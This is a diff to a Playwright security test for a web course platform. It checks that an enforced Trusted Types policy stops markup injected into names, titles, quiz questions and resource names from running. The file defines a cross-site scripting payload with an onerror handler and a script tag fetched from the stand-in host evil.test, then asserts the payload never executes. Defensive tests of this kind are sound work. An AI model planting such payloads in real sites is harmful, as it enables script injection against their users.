@@ -2,7 +2,7 @@ import { expect, type Page, test } from '@playwright/test';
 import { screenKeys, screenOf } from '../../shared/access/screens.ts';
 import { CREATE, EDIT, text } from '../fixtures/courses.ts';
 import { png } from '../fixtures/images.ts';
-import { askAs, AUTHOR, enrol, type JourneyCourse, uploadAs } from './journey-data.ts';
+import { askAs, enrol, type JourneyCourse, uploadAs } from './journey-data.ts';
 import { at, signIn } from './walk.ts';
 
 /** Everything the browser's policy refused on the pages that follow, by what was refused. */
@@ -32,7 +32,7 @@ function pathsOf(values: Readonly<Record<string, string>>): string[] {
 }
 
 /** What a browser that took a name for markup would ask for, and run. */
-const MARKUP = `"><img src=//evil.test onerror="document.title='broken'"><script src=//evil.test/s></script>`;
+const MARKUP = '"><img src=//evil.test onerror="self.broken=1"><script src=//evil.test/s></script>';
 
 /** Makes one of everything that has a name or a title, with markup in it. Returns the ids by which screens show them. */
 async function entitiesOfMarkup(): Promise<Record<'id' | 'course' | 'user' | 'branch' | 'group' | 'category', string>> {
@@ -75,7 +75,7 @@ async function entitiesOfMarkup(): Promise<Record<'id' | 'course' | 'user' | 'br
     tests: [{ unit_order: 3, type: 'Multiple Choice', question: MARKUP, options }],
     categories: [{ id: category.id }],
   });
-  const url = await uploadAs(AUTHOR, 'content', 'a.png', png());
+  const url = await uploadAs(admin, 'content', 'a.png', png());
   const resources = [{ name: MARKUP, file_path: url, is_downloadable: true, category_id: kind.id }];
   await askAs(admin, EDIT, { input: { id: course.CreateCourse.id, resources } });
   await enrol('learner@acme.test', course.CreateCourse);
@@ -100,7 +100,7 @@ test('no screen writes HTML against the Trusted Types policy, which is enforced,
       if (path.startsWith('/choose-branch')) await expect(page.getByRole('heading', { level: 1, name: 'Dashboard' })).toBeVisible();
       await expect(page.locator('h1, [role="alert"]').first()).toBeVisible();
       await expect(page.locator('[aria-busy="true"]')).toHaveCount(0);
-      expect([path, (await page.title()).includes('broken')]).toEqual([path, false]);
+      expect([path, await page.evaluate(() => 'broken' in window)]).toEqual([path, false]);
     }
   };
   const all = pathsOf(values).filter((path) => path !== '/logout');
@@ -141,7 +141,7 @@ test('no screen writes HTML against the Trusted Types policy, which is enforced,
   expect(written).not.toContain('written');
   // A picture that is asked for after those above: what they would have started has happened when its failure is told.
   await page.evaluate(() => new Promise((failed) => Object.assign(new Image(), { onerror: failed, src: 'x' })));
-  expect(await page.title()).not.toContain('broken');
+  expect(await page.title()).not.toBe('broken');
 });
 
 test('the editor works under the policy, and pasted content loses its scripts [X01]', async ({ page }) => {
